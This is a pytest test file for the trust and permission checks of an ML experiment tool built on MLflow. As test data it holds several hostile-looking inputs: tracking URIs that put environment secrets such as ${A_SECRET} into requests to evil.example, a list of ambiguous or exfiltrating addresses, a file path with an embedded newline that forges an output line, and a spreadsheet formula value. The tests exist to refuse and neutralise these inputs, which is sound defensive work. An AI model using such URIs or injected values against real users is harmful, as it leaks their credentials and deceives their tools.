"""What a received file may do: free, granted by what is typed or trusted, refused otherwise."""

import json
import os
import shutil
from pathlib import Path

import pytest
import yaml

from framework.cli.main import main
from framework.cli.trust import effects_of
from framework.effects import Effect
from framework.errors import InputError
from framework.security import (
    address_of,
    csv_text_value,
    environment_for,
    markdown_text,
    sqlite_uri,
    terminal_text,
)
from framework.security.policy import Received
from tests.command import code_and_errors, refused, write
from tests.experiment import small
from tests.trust.conftest import CONFIG
from tracking.mlflow_log.store import check_artifacts

TABLE = "a,b,target\n" + "".join(f"{i % 7},{i % 5},{i % 2}\n" for i in range(60))


def configured(folder: Path, **changes) -> str:
    folder.mkdir(exist_ok=True)
    return str(write(folder / "config.yaml", yaml.safe_load(CONFIG) | changes))


@pytest.fixture
def elsewhere(tmp_path, monkeypatch):
    """Return a file that reads a table outside its folder; the user works in a third place."""
    (tmp_path / "data.csv").write_text(TABLE)
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    problem = yaml.safe_load(CONFIG)["problem"] | {"dataset": {"path": "../data.csv"}}
    return configured(tmp_path / "received", problem=problem)


def test_a_host_is_refused_until_it_is_granted(tmp_path, capsys):
    file = configured(tmp_path / "in", tracking={"uri": "http://${A_SECRET}@evil.example/"})
    granted = "tracking.uri: connects to evil.example, which you have not granted"
    said = refused(capsys, granted, "run", file)
    assert f"paretolab trust {file}" in said
    assert "sends the variable A_SECRET of your environment" in said
    code, said = code_and_errors(capsys, "run", file, "--allow", "host=evil.example")
    assert (code, "connects to" in said, "A_SECRET" in said) == (2, False, True)
    assert main(["check", file, "--set", "tracking.uri=http://host.example"]) == 0
    allowed = ["--allow", "host=evil.example", "--allow", "variable=A_SECRET"]
    assert main(["check", file, *allowed]) == 0
    plain = configured(tmp_path / "plain")
    assert main(["check", plain, "--set", "tracking={uri: http://host.example}"]) == 0
    shown = capsys.readouterr().out
    assert ("(granted)" in shown, "NOT granted" in shown) == (True, False)
    refused(capsys, "", "check", file)  # an option is for one command


def test_the_environment_grants_as_options_do(elsewhere, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    refused(capsys, "", "check", elsewhere)
    monkeypatch.setenv("PARETOLAB_ALLOW", "read=~/data.csv")
    assert code_and_errors(capsys, "check", elsewhere)[0] == 0
    monkeypatch.setenv("PARETOLAB_ALLOW", "read=~/data.csv;reads=/etc")
    refused(capsys, "PARETOLAB_ALLOW: expected KIND=TARGET", "check", elsewhere)


def test_trust_is_remembered_shown_and_forgotten(elsewhere, capsys):
    refused(capsys, "", "check", elsewhere)
    assert main(["trust", elsewhere]) == 0
    assert f"{elsewhere}: reads " in capsys.readouterr().out
    assert main(["check", elsewhere]) == 0
    assert main(["trust", "--list"]) == 0
    assert capsys.readouterr().out.endswith(f"{elsewhere}\n")
    remembered = Path(os.environ["XDG_CONFIG_HOME"], "paretolab", "trusted.json")
    assert remembered.stat().st_mode & 0o077 == 0
    text = Path(elsewhere).read_text()
    Path(elsewhere).write_text(text + "\n")  # whatever it is: a change ends it
    refused(capsys, "", "check", elsewhere)
    assert main(["trust", "--list"]) == 0
    assert f"{elsewhere}: changed since" in capsys.readouterr().out
    Path(elsewhere).write_text(text)
    assert main(["check", elsewhere]) == 0
    assert main(["trust", "--forget", elsewhere]) == 0
    refused(capsys, "", "check", elsewhere)
    refused(capsys, "trust --list", "trust", "--forget", elsewhere)


def test_a_copy_of_a_trusted_file_in_another_folder_is_not_trusted(elsewhere, tmp_path, capsys):
    """The same words name other files there."""
    assert main(["trust", elsewhere]) == 0
    (tmp_path / "sent" / "copy").mkdir(parents=True)
    (tmp_path / "sent" / "data.csv").write_text(TABLE)
    copy = tmp_path / "sent" / "copy" / "config.yaml"
    for make in (copy.symlink_to, copy.hardlink_to):
        make(elsewhere)
        refused(capsys, f"reads {tmp_path}/sent/data.csv", "check", copy)
        copy.unlink()


def test_of_several_files_all_are_trusted_or_none(elsewhere, tmp_path, capsys):
    none = tmp_path / "none.yaml"
    refused(capsys, f"none of them is trusted: {elsewhere}, {none}", "trust", elsewhere, none)
    refused(capsys, "", "check", elsewhere)
    other = configured(tmp_path / "other", tracking={"uri": "http://host.example"})
    assert main(["trust", elsewhere, other]) == 0
    assert main(["check", elsewhere]) == main(["check", other]) == 0


def test_what_workers_run_is_trusted_for_one_command(tmp_path, capsys):
    """No digest of the file says anything of the code that its section cluster names."""
    (tmp_path / "in" / "mine").mkdir(parents=True)
    file = configured(tmp_path / "in", cluster={"py_modules": ["mine"]}, workers=2)
    assert main(["trust", file]) == 0
    assert "with --trust-cluster alone" in capsys.readouterr().out
    refused(capsys, "say --trust-cluster", "run", file, "--out", tmp_path / "out", "--no-mlflow")


def test_a_run_goes_on_with_what_it_was_granted_and_no_other_does(elsewhere, capsys, monkeypatch):
    options = ["--quiet", "--no-plots", "--no-mlflow"]
    assert main(["run", elsewhere, "--out", "one", *options, "--allow", "read=.."]) == 0
    assert main(["choose", "one", "--best", "cost", "--no-mlflow"]) == 0
    assert "its model and picture are not written" not in capsys.readouterr().err
    assert main(["resume", "one", *options]) == 0
    dataset = {"path": str(Path("../data.csv").resolve())}
    problem = yaml.safe_load(CONFIG)["problem"] | {"dataset": dataset}
    other = configured(Path("other"), problem=problem)
    shutil.copy("one/allowed.json", "other")  # what one run may do is no grant of other files
    assert refused(capsys, "", "check", other).count("which you have not granted") == 1
    monkeypatch.setenv("XDG_CONFIG_HOME", os.environ["XDG_CONFIG_HOME"] + "2")  # another user's
    assert "which you have not granted" in refused(capsys, "reads ", "resume", "one", *options)


@pytest.mark.parametrize(
    ("own", "named"),
    [
        ("http://mlflow.example:5000", True),
        ("http://mlflow.example:5001", False),
        ("https://mlflow.example:5000", False),
        ("http://mlflow.example", False),
        ("http://mlflow.example:5000/", True),
        ("http://other.example:5000", False),
        ("", False),
    ],
)
def test_the_environment_names_a_server_not_all_that_listens_at_its_host(
    own, named, tmp_path, capsys, monkeypatch
):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", own)
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", "t0ken")
    uri = "http://mlflow.example:5000/path"
    assert ("MLFLOW_TRACKING_TOKEN" in environment_for(uri, tmp_path)) == named
    file = configured(tmp_path / "in", tracking={"uri": uri})
    assert ("which you have not granted" in code_and_errors(capsys, "check", file)[1]) != named


def test_a_case_elsewhere_is_read_once_the_experiment_is_trusted(tmp_path, capsys, monkeypatch):
    for name in ("sent", "cases", "work"):
        (tmp_path / name).mkdir()
    monkeypatch.chdir(tmp_path / "work")
    known = yaml.safe_load(CONFIG)
    case = {"problem": known["problem"]}
    write(tmp_path / "cases" / "one.yaml", case)
    content = small.raw(cases={"one": {"config": "../cases/one.yaml"}}, repeats=1)
    content = {**content, "objectives": known["objectives"]}
    del content["problem"]
    file = str(small.write(tmp_path / "sent", content))
    reads = f"reads {tmp_path}/sent/../cases/one.yaml, which you have not granted"
    assert refused(capsys, reads, "check", file).count("\n") == 1
    assert main(["trust", file]) == 0
    assert "reads" in capsys.readouterr().out
    assert main(["check", file]) == 0
    table = {**known["problem"], "dataset": {"path": "data.csv"}}
    (tmp_path / "cases" / "data.csv").write_text(TABLE)
    write(tmp_path / "cases" / "one.yaml", {"problem": table})
    refused(capsys, "cases/one.yaml, which you have not granted", "check", file)
    assert main(["trust", file]) == main(["check", file]) == 0


def test_a_case_beside_a_trusted_experiment_cannot_change_what_it_does(tmp_path, capsys):
    """Reading it is free, what it asks for is not: its digest is a part of what was trusted."""
    known = yaml.safe_load(CONFIG)
    case = tmp_path / "cases" / "one.yaml"
    case.parent.mkdir()
    write(case, {"problem": known["problem"]})
    content = small.raw(cases={"one": {"config": "cases/one.yaml"}}, repeats=1)
    content |= {"objectives": known["objectives"], "tracking": {"uri": "http://host.example"}}
    del content["problem"]
    file = str(small.write(tmp_path, content))
    assert main(["trust", file]) == main(["check", file]) == 0
    before = case.read_text()
    write(case, {"problem": {**known["problem"], "dataset": {"openml": 31}}})
    refused(capsys, "connects to openml.org, which you have not granted", "check", file)
    case.write_text(before)
    assert main(["check", file]) == 0
    refused(capsys, "", "check", case, "--set", "tracking.uri=http://host.example")


def test_what_lies_beside_the_configuration_of_a_run_has_no_part_in_its_trust(
    made, tmp_path, capsys
):
    """Of ``sweep.yaml`` and ``tracking.json`` the digest of ``config.yaml`` says nothing."""
    place = tmp_path / "sweep"
    shutil.copytree(made["sweep"], place)
    config = place / "config.yaml"
    tracked = "tracking: {uri: http://a.example}"
    config.write_text(config.read_text().replace("tracking: null", tracked))
    assert main(["trust", str(config)]) == 0
    sweep = yaml.safe_load((place / "sweep.yaml").read_text())
    write(place / "sweep.yaml", sweep | {"storage": "postgresql://evil.example/x"})
    sentence = "evil.example, which you have not granted"
    said = refused(capsys, sentence, "resume", place, "--quiet")
    assert f"paretolab trust {place}`" in said
    state = {"uri": "http://evil.example", "experiment": "x", "started": 0.0}
    (place / "tracking.json").write_text(json.dumps(state | {"tags": {}, "runs": {}}))
    refused(capsys, sentence, "sync", place)
    assert main(["trust", str(place)]) == 0
    said = capsys.readouterr().out
    assert "connects to evil.example: trusted" in said
    assert effects_of(place).missing() == []
    assert main(["trust", "--forget", str(place)]) == 0


def test_what_is_shipped_needs_no_grant_from_another_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for path in sorted((Path(__file__).parents[2] / "configs").rglob("*.yaml")):
        assert effects_of(path).missing() == [], path


def test_settings_of_libraries_count_where_the_environment_says_so(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "matplotlibrc").write_text("text.usetex: False\n")
    refused(capsys, f"PARETOLAB_ALLOW=read={tmp_path}/matplotlibrc", "list", "problems")
    monkeypatch.setenv("PARETOLAB_ALLOW", f"read={tmp_path}/matplotlibrc")
    assert main(["list", "problems"]) == 0


@pytest.mark.parametrize(
    "uri",
    [
        "http://evil.example/leak/${X}/x",
        "http://${X}.evil.example/",
        "http://127.0.0.1:9@evil.example\\@127.0.0.1",
        "evil-plugin://x",
        "sqlite:///${HOME}/m.db",
        "sqlite:///file:/x?uri=true",
        "file://evil.example/x",
        "file:mlruns",  # which MLflow itself refuses by now
        "file",
        "http+evil://127.0.0.1:9",
        "hdfs://x/y",
        "grpc://x:1",
        " http://evil.example",  # of which MLflow reads another address than a strict grammar
        "ht\ttp://evil.example",
        "\x01http://evil.example",
        "data\tbricks://x",
        "databricks-uc",
        "uc",
        "mlruns",
        "sqlite+pysqlite:///m.db",
        "sqlite:///m\t.db",
        "sqlite:///m%.db",
        "sqlite:///m\ud800.db",
        "sqlite:///m%00.db",
        "sqlite:///%66ile:m.db",
        "",
    ],
)
def test_addresses_that_can_be_read_in_two_ways_are_none(uri):
    with pytest.raises(ValueError, match="expected "):
        address_of(uri)


def test_a_path_of_any_signs_is_one_address(tmp_path):
    """SQLAlchemy, too, takes percent signs back."""
    from sqlalchemy import make_url

    file = tmp_path / "a#b%41c?d 'e" / "m.db"
    assert address_of(sqlite_uri(file)).file == str(file) == make_url(sqlite_uri(file)).database
    assert address_of("sqlite:///%2e%2e/m.db").file == "../m.db"


def test_databricks_is_no_folder(tmp_path, capsys):
    """MLflow takes the bare word for the user's workspace, with the user's token."""
    from mlflow.tracking._tracking_service import utils

    words = set(utils._tracking_store_registry._registry)
    for word in words:
        refused(capsys, "tracking.uri: ", "check", configured(tmp_path, tracking={"uri": word}))
    databricks = configured(tmp_path, tracking={"uri": "databricks"})
    refused(capsys, "connects to databricks, which you have not", "check", databricks)
    assert main(["check", databricks, "--allow", "host=databricks"]) == 0


def test_stores_and_paths_that_are_free(tmp_path, monkeypatch, capsys):
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    for uri in ("sqlite:///mlflow.db", "http://127.0.0.1:9", f"sqlite:///{tmp_path}/in/m.db"):
        assert main(["check", configured(tmp_path / "in", tracking={"uri": uri})]) == 0, uri
    for uri in (f"sqlite:///{tmp_path}/new/m.db", "sqlite:///../m.db", "http://${X}@127.0.0.1:9"):
        refused(capsys, "", "check", configured(tmp_path / "in", tracking={"uri": uri}))
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize(
    ("location", "store"),
    [
        ("file:///home/me", "http://127.0.0.1:5000"),
        ("/home/me", "http://127.0.0.1:5000"),
        ("http://evil.example/x", "http://127.0.0.1:5000"),
        ("mlflow-artifacts://evil.example/x", "http://127.0.0.1:5000"),
        ("ftp://x/y", "http://127.0.0.1:5000"),
        ("file:///home/me", "sqlite:////tmp/x/mlflow.db"),
        ("file:///tmp/x/%2e%2e/y", "sqlite:////tmp/x/mlflow.db"),
    ],
)
def test_a_store_sends_files_nowhere_else(location, store):
    with pytest.raises(InputError, match="nothing was sent there"):
        check_artifacts(location, store)
    check_artifacts("mlflow-artifacts:/1/2", "http://127.0.0.1:5000")
    check_artifacts("s3://bucket/x", "http://127.0.0.1:5000")
    check_artifacts("file:///tmp/x/mlruns/1", "sqlite:////tmp/x/mlflow.db")


@pytest.mark.parametrize("kind", ["zero", "pipe"])
def test_a_device_as_a_table_or_a_case_ends_in_a_sentence(kind, tmp_path, capsys):
    place = tmp_path / "data.csv"
    place.symlink_to("/dev/zero") if kind == "zero" else os.mkfifo(place)
    problem = yaml.safe_load(CONFIG)["problem"] | {"dataset": {"path": "data.csv"}}
    file = configured(tmp_path, problem=problem)
    refused(capsys, "found a pipe or a device", "check", file, "--allow", "read=/dev")
    refused(capsys, "in the place of a file", "check", place)


def test_names_stay_text():
    assert terminal_text("a\x1b[31mb\u202e") == "a\\x1b[31mb\\u202e"
    assert terminal_text("grün ✓") == "grün ✓"
    assert markdown_text("<img src=x> ![x](y) `z` | a_b") == (
        r"&lt;img src=x&gt; !\[x\](y) \`z\` \| a_b"
    )
    assert csv_text_value("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert csv_text_value("yes") == "yes"


def test_an_effect_is_one_line(tmp_path, capsys):
    """Else a name could end its line as granted, and say what seem to be further effects."""
    path = "/etc/hosts (free)\neffect  tracking.uri: connects to nobody"
    problem = yaml.safe_load(CONFIG)["problem"] | {"dataset": {"path": path}}
    assert main(["check", configured(tmp_path, problem=problem)]) == 2
    said = capsys.readouterr()
    (effects,) = [line for line in said.out.splitlines() if line.startswith("effect")]
    assert r"(free)\neffect" in effects
    assert len(said.err.splitlines()) == 1, said.err


def test_what_is_typed_grants_nothing_that_ends_alike(tmp_path):
    case = {"problem.dataset.path": "./../secret/data.csv"}
    raw = {"problem": {"dataset": {"path": "data.csv"}}, "experiment": {"cases": {"a": case}}}
    reading = Received(tmp_path / "sent.yaml", ["problem.dataset.path"], raw=raw)
    typed = Effect("read", str(tmp_path / "data.csv"), "path", "data.csv")
    sent = Effect("read", "/secret/data.csv", "path", str(Path(case["problem.dataset.path"])))
    assert reading.is_granted(typed)
    assert not reading.is_granted(sent)
    assert reading.key_of(sent) == "experiment.cases.a.problem.dataset.path"


@pytest.mark.parametrize("modules", [".", "", "*", "/"])
def test_whatever_stands_in_a_section_is_refused_in_a_sentence(tmp_path, capsys, modules):
    file = configured(tmp_path / "in", cluster={"py_modules": [modules]})
    code, said = code_and_errors(capsys, "check", file)
    assert (code, said) == (0, "") or (code == 2 and said.count("\n") == 1), said
